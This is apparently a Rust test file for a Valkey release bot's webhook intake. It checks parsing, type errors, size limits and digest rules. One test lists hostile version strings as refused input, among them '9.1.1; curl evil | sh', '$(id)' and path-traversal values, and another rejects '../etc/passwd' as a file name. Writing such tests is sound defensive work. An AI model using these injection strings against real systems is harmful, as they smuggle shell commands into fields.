//! Event intake: both webhook shapes become one request; every refusal names its field.
#![allow(clippy::unwrap_used)]

use valkey_bot_core::request::{EventError, Origin, Triggers, parse_event};
use valkey_bot_core::{Environment, Sha256Digest};

const DIGEST: &str = "7d7232acd1b8a49b4e05d07a00b3ca8c801ae06ab633ca6a3423bc5f385ab7ee";

fn triggers() -> Triggers {
    Triggers {
        repository_dispatch: vec!["valkey-release".into()],
        workflow_dispatch: true,
    }
}

fn fixture(name: &str) -> Vec<u8> {
    let path = format!(
        "{}/tests/fixtures/events/{name}",
        env!("CARGO_MANIFEST_DIR")
    );
    std::fs::read(&path).unwrap_or_else(|e| panic!("{path}: {e}"))
}

/// A `repository_dispatch` event with `client_payload` replaced by `payload`.
fn dispatch(payload: serde_json::Value) -> Vec<u8> {
    let mut event: serde_json::Value =
        serde_json::from_slice(&fixture("repository_dispatch.json")).unwrap();
    event["client_payload"] = payload;
    serde_json::to_vec(&event).unwrap()
}

/// A `workflow_dispatch` event with `inputs` replaced by `inputs`.
fn manual(inputs: serde_json::Value) -> Vec<u8> {
    let mut event: serde_json::Value =
        serde_json::from_slice(&fixture("workflow_dispatch.json")).unwrap();
    event["inputs"] = inputs;
    serde_json::to_vec(&event).unwrap()
}

fn refusal(event_name: &str, payload: &[u8]) -> String {
    parse_event(event_name, payload, &triggers())
        .unwrap_err()
        .to_string()
}

#[test]
fn repository_dispatch_as_the_main_repository_sends_it() {
    let request = parse_event(
        "repository_dispatch",
        &fixture("repository_dispatch.json"),
        &triggers(),
    )
    .unwrap();
    assert_eq!(request.version.as_str(), "9.1.1");
    assert_eq!(request.environment, Environment::Prod);
    assert_eq!(request.tasks, None);
    assert!(!request.dry_run && !request.replace);
    assert!(request.build_digests.is_empty());
    assert_eq!(
        request.origin,
        Origin::RepositoryDispatch {
            event_type: "valkey-release".into()
        }
    );
}

#[test]
fn repository_dispatch_with_every_field() {
    let request = parse_event(
        "repository_dispatch",
        &fixture("repository_dispatch_full.json"),
        &triggers(),
    )
    .unwrap();
    assert_eq!(request.version.as_str(), "9.1.0-rc2");
    assert_eq!(request.environment, Environment::Dev);
    assert_eq!(
        request.tasks,
        Some(vec!["checksums".to_owned(), "container".to_owned()])
    );
    assert!(request.dry_run);
    assert!(!request.replace);
    assert_eq!(
        request.build_digests.get("valkey-9.1.0-rc2.tar.gz"),
        Some(&Sha256Digest::parse(DIGEST).unwrap())
    );
}

#[test]
fn workflow_dispatch_inputs_are_strings() {
    let request = parse_event(
        "workflow_dispatch",
        &fixture("workflow_dispatch.json"),
        &triggers(),
    )
    .unwrap();
    assert_eq!(request.version.as_str(), "9.1.1");
    assert_eq!(
        request.tasks,
        Some(vec!["checksums".to_owned(), "website".to_owned()])
    );
    assert!(request.dry_run);
    assert!(request.replace);
    assert_eq!(request.build_digests.len(), 1);
    assert_eq!(request.origin, Origin::WorkflowDispatch);

    let defaults = parse_event(
        "workflow_dispatch",
        &fixture("workflow_dispatch_defaults.json"),
        &triggers(),
    )
    .unwrap();
    assert_eq!(defaults.tasks, None, "an empty task list means every task");
    assert!(!defaults.dry_run && !defaults.replace);
    assert!(defaults.build_digests.is_empty());
    assert_eq!(defaults.environment, Environment::Dev);
}

#[test]
fn unknown_event_names_and_types_are_refused() {
    let payload = fixture("repository_dispatch.json");
    assert!(refusal("push", &payload).contains("unsupported event \"push\""));
    let mut event: serde_json::Value = serde_json::from_slice(&payload).unwrap();
    event["action"] = "build-release".into();
    let message = refusal("repository_dispatch", &serde_json::to_vec(&event).unwrap());
    assert!(
        message.contains("\"build-release\" does not trigger a run"),
        "{message}"
    );

    let no_manual = Triggers {
        workflow_dispatch: false,
        ..triggers()
    };
    let error = parse_event(
        "workflow_dispatch",
        &fixture("workflow_dispatch.json"),
        &no_manual,
    )
    .unwrap_err();
    assert!(matches!(error, EventError::NotTriggered { .. }));
}

#[test]
fn unknown_keys_are_refused_by_name() {
    let message = refusal(
        "repository_dispatch",
        &dispatch(serde_json::json!({"version": "9.1.1", "environment": "prod", "force": true})),
    );
    assert_eq!(message, "unknown field `client_payload.force`");
    let message = refusal(
        "workflow_dispatch",
        &manual(serde_json::json!({"version": "9.1.1", "environment": "prod", "ref": "x"})),
    );
    assert_eq!(message, "unknown field `inputs.ref`");
}

#[test]
fn wrong_types_are_refused_by_field() {
    let cases = [
        (
            serde_json::json!({"version": 9.1, "environment": "prod"}),
            "`client_payload.version`: must be a string",
        ),
        (
            serde_json::json!({"version": "9.1.1", "environment": "prod", "dry_run": "true"}),
            "`client_payload.dry_run`: must be a boolean",
        ),
        (
            serde_json::json!({"version": "9.1.1", "environment": "prod", "tasks": "checksums"}),
            "`client_payload.tasks`: must be an array of task names",
        ),
        (
            serde_json::json!({"version": "9.1.1", "environment": "prod", "tasks": [1]}),
            "`client_payload.tasks[0]`: must be a string",
        ),
        (
            serde_json::json!({"version": "9.1.1", "environment": "staging"}),
            "`client_payload.environment`: \"staging\" is not `prod` or `dev`",
        ),
        (
            serde_json::json!({"version": "9.1.1", "environment": "prod", "digests": {"valkey-9.1.1.tar.gz": "ABC"}}),
            "`client_payload.digests.valkey-9.1.1.tar.gz`: a SHA-256 digest has 64 hex characters, found 3",
        ),
        (
            serde_json::json!({"version": "9.1.1", "environment": "prod", "digests": {"../etc/passwd": DIGEST}}),
            "`client_payload.digests`: \"../etc/passwd\" is not a release file name",
        ),
        (
            serde_json::json!({"version": "9.1.1", "environment": "prod", "tasks": ["Checksums;"]}),
            "`client_payload.tasks`: \"Checksums;\" is not a task name",
        ),
        (
            serde_json::json!({"environment": "prod"}),
            "`client_payload.version` is missing",
        ),
        (
            serde_json::json!({"version": "9.1.1"}),
            "`client_payload.environment` is missing",
        ),
    ];
    for (payload, expected) in cases {
        let message = refusal("repository_dispatch", &dispatch(payload.clone()));
        assert!(
            message.starts_with(expected),
            "{payload}: got {message:?}, want {expected:?}"
        );
    }
    let message = refusal(
        "workflow_dispatch",
        &manual(serde_json::json!({"version": "9.1.1", "environment": "prod", "dry_run": true})),
    );
    assert_eq!(
        message,
        "`inputs.dry_run`: must be the string \"true\" or \"false\""
    );
    let message = refusal(
        "workflow_dispatch",
        &manual(serde_json::json!({"version": "9.1.1", "environment": "prod", "dry_run": "yes"})),
    );
    assert_eq!(
        message,
        "`inputs.dry_run`: must be the string \"true\" or \"false\""
    );
    let message = refusal(
        "workflow_dispatch",
        &manual(serde_json::json!({"version": "9.1.1", "environment": "prod", "digests": "[1]"})),
    );
    assert_eq!(
        message,
        "`inputs.digests`: must be a JSON object of file name to digest"
    );
}

#[test]
fn hostile_versions_are_refused_with_an_escaped_quote() {
    for version in [
        "9.1.1; curl evil | sh",
        "$(id)",
        "../../9.1.1",
        "9.1.1\nhash x",
        "<b>9.1.1</b>",
        "[9.1.1](http://x)",
        "9.1.1`",
    ] {
        let message = refusal(
            "repository_dispatch",
            &dispatch(serde_json::json!({"version": version, "environment": "prod"})),
        );
        assert!(
            message.starts_with("`client_payload.version`: invalid version"),
            "{message}"
        );
        assert!(!message.contains('\n'), "raw newline in {message:?}");
    }
}

#[test]
fn size_and_key_count_limits() {
    let mut payload = serde_json::Map::new();
    for i in 0..11 {
        payload.insert(format!("k{i}"), serde_json::Value::Null);
    }
    let message = refusal("repository_dispatch", &dispatch(payload.into()));
    assert_eq!(
        message,
        "`client_payload` has 11 keys, at most 10 are allowed"
    );

    let big = "x".repeat(20_000);
    let message = refusal(
        "repository_dispatch",
        &dispatch(serde_json::json!({"version": big, "environment": "prod"})),
    );
    assert!(
        message.starts_with("`client_payload` is too large"),
        "{message}"
    );

    let huge = vec![b' '; 2 * 1024 * 1024];
    assert!(refusal("repository_dispatch", &huge).starts_with("`event` is too large"));
    assert!(
        refusal("repository_dispatch", b"[1]").starts_with("event payload is not a JSON object")
    );
    assert!(
        refusal("repository_dispatch", b"{\"action\": \"valkey-release\"}")
            .contains("`client_payload` is missing")
    );
}

#[test]
fn replace_is_refused_from_a_repository_dispatch_and_accepted_from_a_manual_run() {
    let message = refusal(
        "repository_dispatch",
        &dispatch(serde_json::json!({"version": "9.1.1", "environment": "prod", "replace": true})),
    );
    assert!(
        message.contains("`client_payload.replace` is true, but `replace` is accepted only from a manual workflow_dispatch run"),
        "{message}"
    );
    let harmless = parse_event(
        "repository_dispatch",
        &dispatch(serde_json::json!({"version": "9.1.1", "environment": "prod", "replace": false})),
        &triggers(),
    )
    .unwrap();
    assert!(!harmless.replace);
    let manual = parse_event(
        "workflow_dispatch",
        &manual(serde_json::json!({"version": "9.1.1", "environment": "prod", "replace": "true"})),
        &triggers(),
    )
    .unwrap();
    assert!(manual.replace);
}

#[test]
fn prod_runs_from_events_require_build_digests() {
    let request = parse_event(
        "repository_dispatch",
        &dispatch(serde_json::json!({"version": "9.1.1", "environment": "prod", "digests": {"valkey-9.1.1.tar.gz": DIGEST}})),
        &triggers(),
    )
    .unwrap();
    assert!(request.requires_build_digests());
    assert_eq!(
        request.build_digest("valkey-9.1.1.tar.gz").unwrap(),
        Some(&Sha256Digest::parse(DIGEST).unwrap())
    );
    let missing = request
        .build_digest("valkey-9.1.1-noble-arm64.tar.gz")
        .unwrap_err();
    assert_eq!(missing.file, "valkey-9.1.1-noble-arm64.tar.gz");
    let dev = parse_event(
        "repository_dispatch",
        &dispatch(serde_json::json!({"version": "9.1.1", "environment": "dev"})),
        &triggers(),
    )
    .unwrap();
    assert!(!dev.requires_build_digests());
    assert_eq!(dev.build_digest("valkey-9.1.1.tar.gz").unwrap(), None);
}
